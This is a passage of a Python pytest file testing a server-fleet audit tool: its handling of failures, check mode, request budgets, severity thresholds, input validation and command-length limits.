    outcomes = {result["host"]: result["outcome"] for result in done.report["results"]}
    assert outcomes == dict.fromkeys(of, "passed")
    assert "could not be asked: An answer could not be dealt with: ZeroDivisionError" in done.report["refusal"]
    assert result_of(done)["failed"]


def test_what_nobody_has_thought_of_leaves_the_ids(current: Workspace, monkeypatch: pytest.MonkeyPatch) -> None:
    def fail(self: Fleet, jobs: list[Job]) -> None:
        run(self, jobs)
        jobs[0].outcome, jobs[0].msg = None, ""
        raise ZeroDivisionError("out of the blue")

    run = Fleet.run
    monkeypatch.setattr(Fleet, "run", fail)
    done = audit(current, HELLO, of=hosts("web-01", "web-02"))
    assert done.outcomes == {("web-01", "hello"): "unknown", ("web-02", "hello"): "passed"}
    ids = {row["server"]: row["id"] for row in current.commands()}
    assert {result["host"]: result["command"] for result in done.report["results"]} == ids
    assert f"What came of it was not awaited. Id {ids['web-01']}." in done.report["results"][0]["message"]
    assert (done.result["changed"], done.result["failed"]) == (True, True)


def test_a_run_that_is_over_gets_no_report(current: Workspace, monkeypatch: pytest.MonkeyPatch) -> None:
    def fail(self: Fleet, jobs: list[Job]) -> None:
        raise RunIsOver

    monkeypatch.setattr(Fleet, "run", fail)
    with pytest.raises(RunIsOver):
        audit(current, HELLO)


def test_a_list_of_servers_that_may_not_be_read(workspace: Workspace) -> None:
    workspace.fault("status", method="GET", path="servers", status=403, body='{"code": "forbidden"}')
    done = audit(workspace, HELLO, of=[Member("here", workspace.server_ids()["web-01"]), *hosts("web-02")])
    assert (done.outcomes, list(done.reasons)) == ({("here", "hello"): "passed"}, ["web-02"])
    [warning] = done.warnings
    assert warning.startswith("The list of servers cannot be read, so hosts need alpacon_server_id:")


# Check mode


def test_check_mode_writes_nothing(current: Workspace) -> None:
    worse = {"name": "worse", "line": "exit 1"}
    audit(current, HELLO, worse)
    current.reset_counters()
    asked: Row = {"of": hosts("web-01", "web-02"), "check_mode": True, "reuse_within": "1h", "fail_on": "info"}
    done = audit(current, HELLO, worse, **asked)
    assert current.counters()["writes"] == 0
    assert done.audited.changed
    assert done.outcomes == {("web-01", "hello"): "passed"}
    assert done.result["msg"] == "1 passed, 0 failed, 0 unknown. 2 commands would be submitted."
    assert (done.result["verdict"], done.result["coverage"], done.result["failed"]) == (None, None, False)
    assert not any("erdict" in line or "Not reached" in line for line in done.result["overview"])
    assert "2 commands would be submitted" in done.result["overview"]
    assert (done.summary["not_asked"], done.summary["not_reached"]) == (1, 0)


# What it costs

#: What all of sixty checks are content with.
PRINTED = " ".join(map(str, range(60)))


@pytest.fixture
def idle(running: Callable[[str], Workspace]) -> Workspace:
    """A workspace whose 200 servers answer at once."""
    workspace = running("current")
    workspace.reset()
    workspace.settings(instant=True)
    workspace.add_servers(*(f"idle-{number:03}" for number in range(200)), connected=True)
    workspace.reset_counters()
    return workspace


def test_two_hundred_servers_and_sixty_checks(idle: Workspace) -> None:
    fleet = hosts(*(f"idle-{number:03}" for number in range(200)))
    checks = [{"name": f"check-{number}", "line": f"echo {number}", "contains": str(number)} for number in range(60)]
    done = audit(idle, *checks, of=fleet, reuse_within="1h")
    counters = idle.counters()
    assert counters["writes"] == 200
    assert counters["requests"] <= 1.1 * 200
    idle.add_commands([{"server": host.server, **carried(*checks, prints=PRINTED)} for host in fleet])
    idle.reset_counters()
    again = audit(idle, *checks, of=fleet, reuse_within="1h")
    assert set(again.outcomes.values()) == {"passed"}
    assert (idle.counters()["writes"], again.audited.changed, again.summary["reused"]) == (0, False, 12_000)
    # The history is read once, and who the token is takes two.
    assert idle.counters()["requests"] <= 2 + 400 / 100 + 1 + 2
    assert done.summary["requests"] <= 220


@pytest.mark.parametrize(("servers", "whole"), [(42, 42), (200, 50)])
def test_a_budget_is_spent_on_whole_servers(idle: Workspace, servers: int, whole: int) -> None:
    fleet = hosts(*(f"idle-{number:03}" for number in range(servers)))
    done = audit(idle, HELLO, of=fleet, budget=60, reuse_within="1h", fail_on="never")
    assert idle.counters()["requests"] <= 60
    reached = [server["host"] for server in done.report["servers"] if server["reached"]]
    assert reached == [host.name for host in fleet][: len(reached)]
    assert whole - 4 <= len(reached) <= whole
    assert done.summary["not_asked"] == servers - len(reached)
    if servers == 200:
        assert done.result["verdict"] == "inconclusive"
        assert "servers not asked: idle-0" in done.result["msg"]
        assert any(line.startswith("Not asked: The budget of 60 requests") for line in done.result["overview"])
        assert "budget: 200 servers take about 200 commands" in done.warnings[0]


def test_a_few_hosts_of_a_large_workspace_are_asked_for_singly(idle: Workspace) -> None:
    ids = idle.server_ids()
    audit(idle, HELLO, of=[Member("one", ids["idle-007"])], check_mode=True)
    assert paths(idle)[-1].endswith(f"/{ids['idle-007']}/")
    before = idle.requests_made()
    audit(idle, HELLO, of=hosts("idle-009"), check_mode=True)
    assert idle.requests_made() - before == 1


# What the task returns


def test_findings_fail_the_task_from_a_severity_on(workspace: Workspace) -> None:
    workspace.add_servers("off-01", connected=False)
    checks = [
        {"name": "low", "line": "echo 1; exit 1", "severity": "low"},
        {"name": "high", "line": "echo 1; exit 2", "severity": "high"},
    ]
    done = audit(workspace, *checks, of=hosts("web-01", "off-01"))
    result = done.result
    assert (result["failed"], result["failing"]) == (True, 1)
    assert result["msg"].startswith("1 finding of severity high or worse: web-01: high (high): ")
    assert [(f["host"], f["check"], f["severity"], f["fails"]) for f in result["findings"]] == [
        ("web-01", "high", "high", True),
        ("web-01", "low", "low", False),
    ]
    assert not any("output" in finding for finding in result["findings"])
    # The server that is offline is as bad as a question without an answer.
    for fail_on, failing in (("never", 0), ("critical", 0), ("high", 1), ("medium", 2), ("info", 3)):
        report = {**done.report, "fail_on": None if fail_on == "never" else fail_on, "min_coverage": 0}
        report["verdict"] = verdict_of(report)
        again = result_of(Audited(report, changed=True))
        assert (again["failed"], again["failing"]) == (failing > 0, failing)
        assert again["verdict"] == ("fail" if failing else "pass")


def test_what_a_host_leaves_open_is_named_once(workspace: Workspace) -> None:
    workspace.add_servers("off-01", connected=False)
    checks = [{"name": f"check-{number}", "line": f"echo {number}"} for number in range(20)]
    result = audit(workspace, *checks, of=hosts("off-01"), fail_on="medium").result
    assert result["msg"].count("off-01") == 1
    assert "1 server not reached: off-01: The server is offline" in result["msg"]


# Bad input


@pytest.mark.parametrize(
    ("given", "message"),
    [
        ({"checks": []}, "checks: there is no check."),
        (
            {"checks": [{"name": "a", "lien": "x"}]},
            "checks, check 1 (a): lien: a check has no such key. Did you mean line?",
        ),
        ({"waivers": [waiver(until="soon")]}, "waivers, waiver 1: until: 'soon' is not a date."),
        ({"waivers": [waiver(groups=[])]}, "waivers, waiver 1: it is about no host."),
        ({"waivers": [waiver(reason=" ")]}, "waivers, waiver 1: reason: it is empty."),
        ({"waivers": [{"check": "b", "hosts": ["a"], "until": "2999-12-31"}]}, "waivers, waiver 1: missing required"),
        ({"waivers": [waiver(unitl=1)]}, "waivers, waiver 1: unitl: a waiver has no such key. Did you mean until?"),
        ({"budget": 0}, "budget: it is 0."),
        (
            {"checks": [{"name": "a", "line": "x", "results": {"format": "tap"}}, {"name": "a/b", "line": "x"}]},
            "checks: a/b may be a result of a as well. Rename one of them.",
        ),
        ({"skip": ["helo"]}, "skip: there is no check helo. Did you mean hello?"),
        ({"reuse_within": "soon"}, "reuse_within: 'soon' is not a duration."),
        ({"wait_timeout": "soon"}, "wait_timeout: 'soon' is not a duration."),
        ({"max_concurrency": "0"}, "max_concurrency: 0 is too small."),
        ({"output_limit": -1}, "output_limit: it is negative."),
        ({"min_coverage": -0.1}, "min_coverage: -0.1 is not a percentage."),
        (
            {"min_coverage": 101.0},
            "min_coverage: 101 is not a percentage. Give a number from 0, for no minimum, to 100.",
        ),
        ({"min_coverage": float("nan")}, "min_coverage: nan is not a percentage."),
        ({"of": []}, "hosts: there is no host to audit."),
        ({"url": "ftp://x"}, "url: "),
    ],
)
def test_bad_input_is_refused_before_any_request(current: Workspace, given: Row, message: str) -> None:
    of = given.pop("of", hosts("web-01"))
    with pytest.raises(UsageError) as raised:
        carry_out({**options(current, HELLO), **given}, of, Run(warn=print))
    assert str(raised.value).startswith(message)
    assert current.requests_made() == 0


# Workspaces that hand no variables to servers


def ask_shipped(workspace: Workspace) -> Done:
    """An audit of a server with some of the checks that the role has."""
    library = read_library(ROOT / "roles/audit/files/checks")
    checks = [*library["accounts"], *library["kernel"]]
    return audit(workspace, HELLO, of=[Member("web-01", "web-01", checks=checks)], min_coverage=0)


def test_what_fits_is_answered_by_lines_as_by_what_is_carried(running: Callable[[str], Workspace]) -> None:
    old, current = running("2024"), running("current")
    old.reset()
    by_lines, carried_ones = ask_shipped(old), ask_shipped(current)
    known = {result["check"]: result for result in carried_ones.report["results"]}
    fitting = [result for result in by_lines.report["results"] if "hands no variables" not in result["message"]]
    assert len(known) == len(by_lines.report["results"])
    assert len(fitting) >= 15
    assert {result["check"]: (result["outcome"], result["message"]) for result in fitting} == {
        result["check"]: (known[result["check"]]["outcome"], known[result["check"]]["message"]) for result in fitting
    }
    lines = [made["line"] for made in old.commands()]
    assert len(lines) == len(set(lines)) == len(fitting) == by_lines.summary["commands"]
    assert max(map(len, lines)) <= 512
    others = [result["message"] for result in by_lines.report["results"] if result not in fitting]
    assert all("characters, and 512 fit." in message for message in others)


@pytest.mark.parametrize("dialect", ["2024", "published"])
@pytest.mark.parametrize("tells", ["servers", "commands", "commands that answer"])
def test_that_no_variables_come_is_learnt_before_anything_is_submitted(
    running: Callable[[str], Workspace], dialect: str, tells: str
) -> None:
    old = running(dialect)
    old.reset()
    if tells != "servers":
        for name in AGENTS:
            old.change_server(name, owner=None)
        old.add_commands([{"server": "web-03", "line": "uptime", "status": "success", "result": "up"}])
    before = old.requests_made()
    done = audit(
        old, HELLO, of=hosts("web-01", "web-02"), reuse_within="1h" if tells == "commands that answer" else None
    )
    assert set(done.outcomes.values()) == {"passed"}
    assert Counter(made["line"] for made in old.commands()) == {
        "export LC_ALL=C; echo hello": 2,
        **({} if tells == "servers" else {"uptime": 1}),
    }
    # The list of servers, the list of commands, two commands, and the looks at them.
    assert old.requests_made() - before <= 4 + 4


def test_lines_may_be_longer_where_the_workspace_is_no_longer_of_2024(running: Callable[[str], Workspace]) -> None:
    published = running("published")
    published.reset()
    published.add_commands([{"server": "web-03", "line": "uptime", "status": "success", "result": "up"}])
    long = {**HELLO, "line": f"echo hello # {'x' * 1000}"}
    assert audit(published, long).the_result["outcome"] == "passed"
